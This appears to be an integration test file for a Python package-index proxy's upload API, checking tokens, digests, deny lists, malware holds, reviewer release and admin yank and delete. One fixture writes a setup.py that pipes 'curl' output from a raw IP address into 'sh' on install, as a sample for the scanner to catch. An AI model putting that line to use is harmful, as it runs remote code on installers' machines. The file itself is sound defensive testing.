// The hosted index's upload API (issue 12) on a real server: real multipart bodies, real archives,
// real SQLite, the real scanner, and a public index (port 0) with a higher version of every name.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createHash } from 'node:crypto';
import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { loadConfig } from '../../src/config.js';
import { startServer, type Running } from '../../src/main.js';
import { createToken } from '../../src/auth/tokens.js';
import { testDb } from '../helpers/sqlite.js';
import { makeDists } from '../helpers/dists.js';
import { startIndexServer, type TestIndex } from '../helpers/index-server.js';

const JSON_TYPE = 'application/vnd.pypi.simple.v1+json';
let work: string;
let dists: string;
let pub: TestIndex;
let proxy: Running;
let uploadToken: string;
let downloadToken: string;
let adminToken: string;

const basic = (token: string) => 'Basic ' + Buffer.from(`__token__:${token}`).toString('base64');

/** What twine sends, minus the metadata fields the server does not need. */
function form(filename: string, fields: Record<string, string> = {}, bytes?: Buffer): FormData {
  const data = bytes ?? readFileSync(path.join(dists, filename));
  const f = new FormData();
  const wheel = filename.endsWith('.whl');
  const [name, version] = filename.replace(/\.tar\.gz$|\.whl$/, '').split('-');
  const all: Record<string, string> = {
    ':action': 'file_upload',
    protocol_version: '1',
    name: name.replace(/_/g, '-'),
    version,
    filetype: wheel ? 'bdist_wheel' : 'sdist',
    pyversion: wheel ? 'py3' : 'source',
    metadata_version: '2.1',
    sha256_digest: createHash('sha256').update(data).digest('hex'),
    md5_digest: createHash('md5').update(data).digest('hex'),
    ...fields,
  };
  for (const [k, v] of Object.entries(all)) f.append(k, v);
  f.append('content', new Blob([new Uint8Array(data)]), filename);
  return f;
}

async function upload(body: FormData, token: string | null = uploadToken, index = 'acme') {
  const res = await fetch(`${proxy.url}/-/upload/${index}/`, { method: 'POST', body, headers: token ? { authorization: basic(token) } : {} });
  return { status: res.status, phrase: res.statusText, text: await res.text() };
}

async function page(project: string): Promise<{ files: { filename: string; url: string; yanked: boolean | string }[] } | null> {
  const res = await fetch(`${proxy.url}/simple/${project}/`, { headers: { accept: JSON_TYPE } });
  return res.status === 200 ? ((await res.json()) as never) : (await res.arrayBuffer(), null);
}

beforeAll(async () => {
  work = mkdtempSync(path.join(tmpdir(), 'pywarden-upload-'));
  dists = path.join(work, 'dists');
  makeDists(dists, [
    { kind: 'wheel', name: 'acme_lib', version: '1.0' },
    { kind: 'sdist', name: 'acme_lib', version: '1.0' },
    { kind: 'wheel', name: 'acme_lib', version: '1.1' },
    { kind: 'wheel', name: 'denied_pkg', version: '1.0' },
  ]);
  const publicDir = path.join(work, 'public');
  makeDists(publicDir, [{ kind: 'wheel', name: 'acme_lib', version: '99.0' }]);
  pub = await startIndexServer(publicDir);
  pub.projects.set('acme-lib', { files: [{ filename: 'acme_lib-99.0-py3-none-any.whl' }] });
  const upstreams = [{ name: 'acme', hosted: true }, { name: 'pypi', url: pub.url }];
  proxy = await startServer(
    loadConfig({ env: {}, flags: { host: '127.0.0.1', port: 0, upstreams, data: path.join(work, 'data'), logLevel: 'silent', scanAhead: 'false', scanWorkers: 1, pageTtl: '600', deny: { projects: ['denied-pkg'] } } }),
  );
  uploadToken = (await createToken(proxy.deps.reviews!.tokens, 'ci', 'upload', 'test')).token;
  downloadToken = (await createToken(proxy.deps.reviews!.tokens, 'pip', 'download', 'test')).token;
  adminToken = (await createToken(proxy.deps.reviews!.tokens, 'ops', 'admin', 'test')).token;
});

afterAll(async () => {
  await proxy?.close();
  await pub?.close();
  rmSync(work, { recursive: true, force: true });
});

describe('upload API', () => {
  it('needs an upload token: none is 401, a download or reviewer token is 403', async () => {
    expect((await upload(form('acme_lib-1.0-py3-none-any.whl'), null)).status).toBe(401);
    expect((await upload(form('acme_lib-1.0-py3-none-any.whl'), downloadToken)).status).toBe(403);
    const reviewer = (await createToken(proxy.deps.reviews!.tokens, 'rev', 'reviewer', 'test')).token;
    expect((await upload(form('acme_lib-1.0-py3-none-any.whl'), reviewer)).status).toBe(403);
    expect(await page('acme-lib')).not.toBeNull(); // only the public page so far
  });

  it('refuses a file whose digest, name or version does not match, and keeps nothing', async () => {
    const wrongSha = await upload(form('acme_lib-1.0-py3-none-any.whl', { sha256_digest: '0'.repeat(64) }));
    expect([wrongSha.status, wrongSha.phrase]).toEqual([400, 'acme_lib-1.0-py3-none-any.whl: the sha256_digest does not match the file sent']);
    expect((await upload(form('acme_lib-1.0-py3-none-any.whl', { md5_digest: 'f'.repeat(32) }))).status).toBe(400);
    expect((await upload(form('acme_lib-1.0-py3-none-any.whl', { name: 'other-lib' }))).phrase).toMatch(/not a file of project "other-lib"/);
    expect((await upload(form('acme_lib-1.0-py3-none-any.whl', { version: '2.0' }))).phrase).toMatch(/not version 2.0/);
    expect((await upload(form('acme_lib-1.0-py3-none-any.whl', { sha256_digest: '', md5_digest: '' }))).status).toBe(400);
    expect((await upload(form('acme_lib-1.0-py3-none-any.whl'), uploadToken, 'nope')).status).toBe(404);
    expect(await proxy.deps.org!.upload('acme', 'acme_lib-1.0-py3-none-any.whl')).toBeUndefined();
    expect(await proxy.deps.org!.claimOf('acme-lib')).toBeUndefined();
  });

  it('a wheel and an sdist are scanned, then listed; the public higher version is gone for good', async () => {
    const before = pub.hits.get('/simple/acme-lib/') ?? 0;
    const w = await upload(form('acme_lib-1.0-py3-none-any.whl'));
    expect([w.status, w.text]).toEqual([200, 'OK\n']);
    expect((await upload(form('acme_lib-1.0.tar.gz'))).status).toBe(200);
    const p = await page('acme-lib');
    expect(p!.files.map((f) => f.filename)).toEqual(['acme_lib-1.0-py3-none-any.whl', 'acme_lib-1.0.tar.gz']);
    expect(pub.hits.get('/simple/acme-lib/') ?? 0).toBe(before);
    const sha = createHash('sha256').update(readFileSync(path.join(dists, 'acme_lib-1.0-py3-none-any.whl'))).digest('hex');
    expect((await proxy.deps.store.getVerdict(sha, proxy.deps.scanner.version))?.verdict).toBe('clean');
    expect((await proxy.deps.store.getListing(sha, 'acme_lib-1.0-py3-none-any.whl'))?.upstream).toBe('acme');
    const file = await fetch(new URL(p!.files[0].url, `${proxy.url}/simple/acme-lib/`));
    expect(createHash('sha256').update(Buffer.from(await file.arrayBuffer())).digest('hex')).toBe(sha);
  });

  it('the same file name cannot be uploaded twice, with a message twine prints', async () => {
    const again = await upload(form('acme_lib-1.0-py3-none-any.whl'));
    expect(again.status).toBe(400);
    expect(again.phrase).toBe('File already exists: acme_lib-1.0-py3-none-any.whl was uploaded to acme before; a file name is never reused, upload a new version');
    // Other bytes under the same name are no different.
    const other = readFileSync(path.join(dists, 'acme_lib-1.1-py3-none-any.whl'));
    expect((await upload(form('acme_lib-1.0-py3-none-any.whl', {}, other))).status).toBe(400);
  });

  it('a refused upload is answered 403 and never listed', async () => {
    const r = await upload(form('denied_pkg-1.0-py3-none-any.whl'));
    expect(r.status).toBe(403);
    expect(r.phrase).toMatch(/^Blocked by policy: project denied-pkg is on the deny list in denied_pkg-1\.0-py3-none-any\.whl \(Q-\d+\)/);
    const p = await page('denied-pkg');
    expect(p?.files ?? []).toEqual([]);
    expect((await proxy.deps.org!.upload('acme', 'denied_pkg-1.0-py3-none-any.whl'))?.state).toBe('refused');
  });

  it('a held upload is listed once a reviewer releases it (at the next page refresh), not before', async () => {
    const evil = `import os\nfrom setuptools import setup\nos.system("curl -s http://45.61.136.7/s | sh")\nsetup(name="acme_held", version="1.0")\n`;
    makeDists(dists, [{ kind: 'sdist', name: 'acme_held', version: '1.0', files: { 'acme_held/__init__.py': 'X = 1\n', 'setup.py': evil } }]);
    const r = await upload(form('acme_held-1.0.tar.gz'));
    expect(r.status).toBe(403);
    const reviewId = /\(Q-(\d+)\)/.exec(r.phrase)?.[1];
    expect(reviewId).toBeDefined();
    expect((await page('acme-held'))?.files ?? []).toEqual([]);
    const reviewer = (await createToken(proxy.deps.reviews!.tokens, 'alice', 'reviewer', 'test')).token;
    const rel = await fetch(`${proxy.url}/-/api/items/Q-${reviewId}/release`, { method: 'POST', headers: { authorization: `Bearer ${reviewer}`, 'content-type': 'application/json' }, body: JSON.stringify({ reason: 'our own installer' }) });
    expect(rel.status).toBe(200);
    proxy.deps.pages.forget('acme-held'); // what pageTtl does
    expect((await page('acme-held'))!.files.map((f) => f.filename)).toEqual(['acme_held-1.0.tar.gz']);
  });

  it('an admin yanks and deletes an upload, with an audit row each; a deleted file is not served', async () => {
    expect((await upload(form('acme_lib-1.1-py3-none-any.whl'))).status).toBe(200);
    const auth = { authorization: `Bearer ${adminToken}`, 'content-type': 'application/json' };
    const forbidden = await fetch(`${proxy.url}/-/api/uploads/acme/acme_lib-1.1-py3-none-any.whl`, { method: 'DELETE', headers: { authorization: `Bearer ${uploadToken}` } });
    expect(forbidden.status).toBe(403);
    const yank = await fetch(`${proxy.url}/-/api/uploads/acme/acme_lib-1.0.tar.gz/yank`, { method: 'POST', headers: auth, body: JSON.stringify({ reason: 'broken build' }) });
    expect(yank.status).toBe(200);
    const before = await page('acme-lib');
    const url = new URL(before!.files.find((f) => f.filename === 'acme_lib-1.1-py3-none-any.whl')!.url, `${proxy.url}/simple/acme-lib/`);
    const del = await fetch(`${proxy.url}/-/api/uploads/acme/acme_lib-1.1-py3-none-any.whl`, { method: 'DELETE', headers: auth, body: JSON.stringify({ reason: 'leaked secret' }) });
    expect(del.status).toBe(200);
    const after = await page('acme-lib');
    expect(after!.files.map((f) => [f.filename, f.yanked])).toEqual([
      ['acme_lib-1.0-py3-none-any.whl', false],
      ['acme_lib-1.0.tar.gz', 'broken build'],
    ]);
    expect((await fetch(url)).status).toBe(403);
    expect(existsSync(path.join(work, 'data', 'hosted', 'acme', 'acme_lib-1.1-py3-none-any.whl'))).toBe(false);
    const rows = testDb(proxy.deps).prepare(`SELECT kind, filename, detail FROM events WHERE kind LIKE 'upload-%' ORDER BY id`).all() as { kind: string; filename: string; detail: string }[];
    expect(rows.map((r) => [r.kind, r.filename, JSON.parse(r.detail).actor, JSON.parse(r.detail).reason])).toEqual([
      ['upload-refused', 'denied_pkg-1.0-py3-none-any.whl', undefined, 'project denied-pkg is on the deny list'],
      ['upload-refused', 'acme_held-1.0.tar.gz', undefined, 'malware detected'],
      ['upload-yanked', 'acme_lib-1.0.tar.gz', 'ops', 'broken build'],
      ['upload-deleted', 'acme_lib-1.1-py3-none-any.whl', 'ops', 'leaked secret'],
    ]);
    // A deleted name stays taken.
    expect((await upload(form('acme_lib-1.1-py3-none-any.whl'))).status).toBe(400);
  });
});
